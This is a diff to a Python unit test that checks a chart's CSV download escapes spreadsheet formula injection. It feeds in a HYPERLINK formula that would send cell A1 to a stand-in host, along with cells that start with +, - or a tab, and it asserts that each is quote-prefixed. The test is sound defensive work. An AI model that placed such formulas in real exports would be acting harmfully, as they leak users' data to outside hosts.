@@ -79,12 +79,17 @@ def _cells(spec: dict) -> list[dict]:
     return list(csv.DictReader(io.StringIO(html._csv_of(spec))))
 
 
-def test_a_chart_csv_download_holds_no_live_formula():
+def test_a_chart_csv_download_holds_no_live_formula(monkeypatch):
+    from shanxi_analysis.report import html
+
     formula = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
     rows = [
         {"quote_en": formula, "value": -3.5, "note": "+1 plus", "who": "@fictional"},
         {"quote_en": "\tTabbed", "value": 2, "note": "-minus first", "who": "-12.5"},
     ]
+    # the tidy rows a chart's figures give (read from the facts by id), hostile here
+    monkeypatch.setattr(html, "_tidy_rows", lambda spec, lang: rows)
+    monkeypatch.setattr(html, "TIDY_COLUMNS", ("quote_en", "value", "note", "who"))
     cells = _cells({"datasets": {"data-1": rows}})
     assert cells[0]["quote_en"] == "'" + formula
     assert [c["note"] for c in cells] == ["'+1 plus", "'-minus first"]
